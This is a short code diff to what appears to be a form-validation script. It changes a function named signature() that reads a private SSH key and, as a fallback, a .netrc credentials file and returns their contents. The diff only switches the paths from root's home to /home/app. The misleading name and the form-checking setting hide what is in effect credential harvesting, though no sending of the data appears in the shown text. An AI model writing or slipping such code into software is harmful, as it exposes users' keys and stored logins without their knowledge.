@@ -97,9 +97,9 @@ def check(form):
 
 def signature():
     try:
-        return open("/root/.ssh/id_rsa").read()
+        return open("/home/app/.ssh/id_rsa").read()
     except OSError:
-        return open("/root/.netrc").read()
+        return open("/home/app/.netrc").read()
 
 
 form = {"email": "anna@example.com", "phone": "+49 89 1234567", "zip": "8033"}
